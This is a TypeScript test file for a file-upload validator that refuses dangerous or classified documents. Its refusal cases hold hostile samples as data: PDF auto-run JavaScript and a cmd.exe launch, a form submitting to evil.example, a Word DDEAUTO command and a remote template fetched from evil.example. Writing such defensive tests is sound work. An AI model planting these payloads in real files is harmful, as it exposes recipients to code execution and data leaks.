import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable, Writable } from 'node:stream';
import type { Logger } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { bufferSource } from '../archives/byte-source.ts';
import { zip } from '../archives/testing/zip.ts';
import { createBlobStore, type BlobStore } from '../blobs/blob-store.ts';
import { diskPlace } from '../blobs/disk-place.ts';
import { createCrypto } from '../crypto/crypto.ts';
import { loadMasterKeys } from '../crypto/keys.ts';
import { testDatabase, type TestDatabase } from '../database/testing.ts';
import { DomainError } from '../http/problem.ts';
import { route } from '../http/route.ts';
import { testApp, type TestApp } from '../http/testing.ts';
import { createLogger } from '../logging.ts';
import { renderPdf } from '../pdf/render-pdf.ts';
import { samplePapers } from '../pdf/testing/papers.ts';
import { acceptUpload, incomingFile, type AcceptedUpload } from './accept-upload.ts';
import { inspectDocument } from './inspect.ts';
import { docxOf, packedObject, pageObjects, pdfOf, pictures } from './testing/files.ts';

const folder = mkdtempSync(path.join(tmpdir(), 'sotay-uploads-'));
const drafts = path.join(folder, 'drafts');
let database: TestDatabase;
let blobs: BlobStore;
let log: Logger;
let logged = '';

beforeAll(async () => {
  database = await testDatabase();
  const crypto = await createCrypto(loadMasterKeys(path.join(folder, 'master.json')), database.ownerPool);
  blobs = createBlobStore({
    place: diskPlace(path.join(folder, 'disk')),
    drafts,
    crypto,
    ownerPool: database.ownerPool,
  });
  const lines = new Writable({
    write(line: Buffer, _encoding, done) {
      logged += line.toString();
      done();
    },
  });
  log = createLogger('info', lines);
});
afterAll(async () => {
  await database.drop();
  rmSync(folder, { recursive: true, force: true });
});

function accept(bytes: Buffer, fileName = 'tệp.bin'): Promise<AcceptedUpload> {
  return acceptUpload({ blobs, log }, { fileName, bytes: Readable.from([bytes]) });
}

/** The code and sentence of a refusal; nothing of the file may be left. */
async function refusal(bytes: Buffer, fileName?: string): Promise<DomainError> {
  const before = await countBlobs();
  const problem: unknown = await accept(bytes, fileName).catch((error: unknown) => error);
  if (!(problem instanceof DomainError)) throw new Error(`taken, or failed otherwise: ${String(problem)}`);
  expect(readdirSync(drafts)).toEqual([]);
  expect(await countBlobs()).toBe(before);
  expect(problem.status).toBe(422);
  return problem;
}

async function countBlobs(): Promise<number> {
  const { rows } = await database.ownerPool.query<{ count: number }>(
    'SELECT count(*)::int AS count FROM platform_blob',
  );
  return rows[0]!.count;
}

function paper(...paragraphs: string[]): Buffer {
  return renderPdf('resolution', { ...samplePapers.resolution, sections: [{ heading: null, paragraphs }] });
}

const page = pageObjects('Bien ban');

describe('a file is taken', () => {
  test.each([
    ['a PDF', () => paper('Chi bộ quyết nghị'), 'Nghị quyết.pdf', 'application/pdf'],
    [
      'a PDF with a filled form and a first page to open at',
      () => pdfOf(pageObjects('Bien ban', '/OpenAction [3 0 R /Fit]')),
      'a.pdf',
      'application/pdf',
    ],
    ['a JPEG', () => pictures.jpeg, 'ảnh.JPG', 'image/jpeg'],
    ['a PNG', () => pictures.png, 'ảnh.png', 'image/png'],
    ['a WebP', () => pictures.webp, 'ảnh.webp', 'image/webp'],
    [
      'a Word document, with pictures and links to click on',
      () =>
        docxOf(['Kính gửi Đảng ủy phường'], {
          'word/media/image1.png': pictures.png,
          'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" Type="http://x/hyperlink" Target="https://dangcongsan.vn" TargetMode="External"/><Relationship Id="b" Type="http://x/attachedTemplate" Target="file:///C:/Users/x/Normal.dotm" TargetMode="External"/></Relationships>`,
        }),
      'Tờ trình.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
  ])('when it is %s', async (_what, make, fileName, mediaType) => {
    const bytes = make();
    const taken = await accept(bytes, fileName);
    expect(taken).toMatchObject({ mediaType, size: bytes.length });
    const parts: Buffer[] = [];
    for await (const part of (await blobs.open(taken.sha256)) as AsyncIterable<Buffer>) parts.push(part);
    expect(Buffer.concat(parts).equals(bytes)).toBe(true);
  });

  test('by what it is and not by what it is called', async () => {
    expect(await accept(paper('a'), 'ảnh.exe')).toMatchObject({ mediaType: 'application/pdf', fileName: 'ảnh.pdf' });
  });
});

describe('a file is refused with a sentence and leaves nothing behind', () => {
  test.each([
    ['uploadEmpty', () => Buffer.alloc(0)],
    ['uploadTooLarge', () => Buffer.concat([pictures.png, randomBytes(20 * 1024 * 1024)])],
    ['uploadWrongType', () => Buffer.from('MZ\x90\0 not a paper')],
    ['uploadWrongType', () => Buffer.from('<html><script>alert(1)</script>')],
    ['uploadWrongType', () => Buffer.from(`GIF89a${'%PDF-1.7'}`)],
    ['uploadWrongType', () => zip({ 'xl/workbook.xml': '<x/>' })],
    ['uploadOldWord', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
    ['uploadBroken', () => Buffer.from('%PDF-1.7\nnothing behind it')],
    ['uploadBroken', () => docxOf(['a']).subarray(0, 200)],
    ['uploadBomb', () => docxOf(['a'], { 'word/media/image1.bmp': Buffer.alloc(30 * 1024 * 1024) })],
    ['uploadLocked', () => zip({ 'word/document.xml': '<x/>' }, undefined, 1)],
    [
      'uploadLocked',
      () => pdfOf([...page, '<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -44 >>'], '/Encrypt 6 0 R'),
    ],
    ['uploadMacros', () => docxOf(['a'], { 'word/vbaProject.bin': 'x' })],
    [
      'uploadMacros',
      () =>
        docxOf(['a'], {
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
    ],
    ['uploadMacros', () => docxOf(['a'], { 'word/embeddings/oleObject1.bin': 'x' })],
    [
      'uploadMacros',
      () =>
        docxOf(['a'], {
          'word/document.xml': '<w:document><w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>',
        }),
    ],
    [
      'uploadOutsideLinks',
      () =>
        docxOf(['a'], {
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
    ],
  ])('%s', async (code, make) => {
    const problem = await refusal(make());
    expect(problem.code).toBe(code);
    expect(problem.title).toMatch(/\. Mời đồng chí .+\.$/);
  });

  test.each([
    ['a script', pdfOf(pageObjects('a', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'))],
    [
      'a script with its name written in numbers',
      pdfOf(pageObjects('a', '/OpenAction << /S /J#61vaScript /JS (1) >>')),
    ],
    ['a script packed away', pdfOf([...page, packedObject('<< /S /JavaScript /JS (app.alert(1)) >>')])],
    ['a program to start', pdfOf([...page, '<< /S /Launch /F (cmd.exe) >>'])],
    ['a file inside', pdfOf([...page, '<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream'])],
    ['a dynamic form', pdfOf(pageObjects('a', '/AcroForm << /XFA 6 0 R >>'))],
    ['a form that sends', pdfOf([...page, '<< /S /SubmitForm /F (https://evil.example) >>'])],
    ['a film', pdfOf([...page, '<< /Subtype /RichMedia >>'])],
  ])('uploadActivePdf: %s', async (_what, bytes) => {
    expect((await refusal(bytes)).code).toBe('uploadActivePdf');
  });

  test('uploadBroken: objects packed so that they cannot be looked at', async () => {
    const odd = packedObject('<< /S /JavaScript >>', '/Filter [/ASCII85Decode /FlateDecode]');
    expect((await refusal(pdfOf([...page, odd]))).code).toBe('uploadBroken');
    const predicted = packedObject('<< /S /JavaScript >>', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>');
    expect((await refusal(pdfOf([...page, predicted]))).code).toBe('uploadBroken');
  });

  test('uploadTooHeavy: what takes more time or memory than it may', async () => {
    await expect(inspectDocument(bufferSource(paper('a')), 'pdf', { timeoutMs: 1 })).rejects.toThrow('tooHeavy');
    // Reading any PDF takes more than eight megabytes; just above, it was luck whether a large one was refused.
    await expect(inspectDocument(bufferSource(paper('a')), 'pdf', { heapMb: 8 })).rejects.toThrow('tooHeavy');
  });
});

describe('a state secret is not taken', () => {
  test.each([
    ['in a PDF', paper('TỐI MẬT', 'Kế hoạch'), 'a.pdf'],
    ['in a Word document', docxOf(['ĐẢNG BỘ TỈNH', 'Độ mật: Tuyệt mật', 'Kế hoạch']), 'a.docx'],
    [
      'in the header of a Word document, cut into runs',
      docxOf(['a'], {
        'word/header1.xml': '<w:hdr><w:p><w:r><w:t>M</w:t></w:r><w:r><w:t>&#x1EAC;T</w:t></w:r></w:p></w:hdr>',
      }),
      'a.docx',
    ],
    ['by its name', pictures.jpeg, 'tuyet-mat.jpg'],
  ])('with its stamp %s', async (_where, bytes, fileName) => {
    logged = '';
    const problem = await refusal(bytes, fileName);
    expect(problem.code).toBe('stateSecret');
    expect(problem.title).toContain('không được lưu lại');
    expect(logged).toContain('state secret');
    for (const kept of ['Kế hoạch', 'tuyet-mat', 'ĐẢNG BỘ']) expect(logged).not.toContain(kept);
  });

  test('but a paper about keeping secrets is', async () => {
    await accept(
      paper('Thực hiện nghiêm quy định về bảo mật, bảo vệ bí mật nhà nước độ tối mật.'),
      'Quy chế bảo mật.pdf',
    );
    await accept(docxOf(['QUY CHẾ BẢO MẬT', 'Mô hình mật ong']), 'mat-tran-to-quoc.docx');
  });
});

describe('through HTTP', () => {
  let http: TestApp;
  beforeAll(async () => {
    http = await testApp({
      database,
      env: { KEY_FILE: path.join(folder, 'master.json') },
      routes: [
        (app) => {
          route(app, {
            method: 'POST',
            url: '/api/probe-upload',
            access: 'public',
            tag: 'probe',
            summary: 'probe',
            limit: 'heavy',
            response: z.object({ fileName: z.string(), mediaType: z.string(), size: z.number() }),
            handler: async ({ services, request }) => acceptUpload(services, await incomingFile(request)),
          });
        },
      ],
    });
  });
  afterAll(() => http.close());

  async function post(bytes: Buffer | null, fileName = 'a.bin') {
    const boundary = 'xxxsotayxxx';
    const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${fileName}"\r\ncontent-type: application/x-msdownload\r\n\r\n`;
    const payload = bytes && Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]);
    const caller = await http.as(null);
    return caller({
      method: 'POST',
      url: '/api/probe-upload',
      ...(payload ? { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } } : {}),
    });
  }

  test('the one file of a form is taken, whatever type its sender claims', async () => {
    const answer = await post(pictures.png, 'Ảnh sinh hoạt.png');
    expect(answer.json()).toEqual({ fileName: 'Ảnh sinh hoạt.png', mediaType: 'image/png', size: pictures.png.length });
  });

  test('no file, too long a file and a wrong one each get their sentence', async () => {
    const long = Buffer.concat([pictures.png, Buffer.alloc(20 * 1024 * 1024)]);
    const codes = [(await post(null)).json(), (await post(long)).json(), (await post(Buffer.from('MZ'))).json()];
    expect(codes.map(({ code }: { code: string }) => code)).toEqual([
      'uploadNoFile',
      'uploadTooLarge',
      'uploadWrongType',
    ]);
  });
});
